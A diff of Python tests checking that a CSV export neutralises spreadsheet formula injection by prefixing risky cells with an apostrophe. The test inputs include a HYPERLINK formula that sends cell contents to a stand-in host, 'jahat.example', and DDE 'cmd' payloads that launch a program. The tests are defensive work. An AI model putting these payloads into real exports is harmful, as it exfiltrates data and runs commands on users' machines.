@@ -4,12 +4,14 @@ import csv
 from datetime import UTC, date, datetime
 from io import StringIO
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from pydantic import BaseModel
 
 from shared.http.answering import Page
-from shared.http.spreadsheet import as_csv
+from shared.http.spreadsheet import Dialect, as_csv
+from shared.texts import like_a_formula
 
 
 class Line(BaseModel):
@@ -75,11 +77,14 @@ def test_what_stands_beside_a_list_is_repeated_in_each_of_its_rows() -> None:
 
 
 @given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
-def test_any_text_is_read_back_as_it_was(texts: list[str]) -> None:
+def test_any_text_is_read_back_as_it_was_but_for_the_apostrophe_before_a_formula(
+    texts: list[str],
+) -> None:
     # a reader folds line ends inside of a quoted text, so these are left as they are
     text = as_csv(page(*(Line(text=text) for text in texts)), Page[Line], None).decode()
     rows = list(csv.DictReader(StringIO(text, newline="")))
-    assert [row["text"] for row in rows] == texts
+    for row, said in zip(rows, texts, strict=True):
+        assert row["text"] == said or (like_a_formula(said) and row["text"] == f"'{said}")
 
 
 def test_a_program_gets_instants_as_json_has_them() -> None:
@@ -109,6 +114,34 @@ def test_no_text_begins_a_formula_in_excel(text: str) -> None:
     (shown,) = [row[0] for row in excel(Line(text=text))[1:]] or [""]
     quoted_number = shown.startswith('="') and shown.endswith('"') and "(" not in shown
     assert quoted_number or not shown.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+FORMULAS = [
+    *('=HYPERLINK("http://jahat.example/?x="&A1,"Klik")', "@SUM(A1:A9)", "+cmd|'/c calc'!A0"),
+    *("-2+cmd|' /C calc'!A0", "\uff1d1+1+A1", "\uff20SUM(A1)", "\uff0bA1", "\uff0dA1"),
+    *(" =A1", "\t=A1", "\r=A1", "\n=A1", "\ufeff=A1", "\u200b=A1", "\u00a0\uff1dA1", "\tBudi"),
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("dialect", [None, "excel-id"])
+def test_a_text_that_a_spreadsheet_would_run_is_no_formula_in_any_dialect(
+    text: str, dialect: Dialect | None
+) -> None:
+    page = Page(items=[Line(text=text)], next=None, position=1)
+    said = as_csv(page, Page[Line], dialect).decode("utf-8-sig")
+    rows = list(csv.reader(StringIO(said, newline=""), delimiter=";" if dialect else ","))
+    assert rows[1][0] == f"'{text}"
+
+
+def test_numbers_and_telephones_stay_what_they_are_for_programs() -> None:
+    page = Page(
+        items=[Line(text="+62 812-7777-0001", share=-7.5), Line(text="-", share=-1e-9)],
+        next=None,
+        position=1,
+    )
+    rows = list(csv.reader(StringIO(as_csv(page, Page[Line], None).decode())))
+    assert [row[:2] for row in rows[1:]] == [["+62 812-7777-0001", "-7.5"], ["-", "-1e-09"]]
 
 
 def test_a_code_that_looks_like_a_number_or_a_time_stays_a_text() -> None:
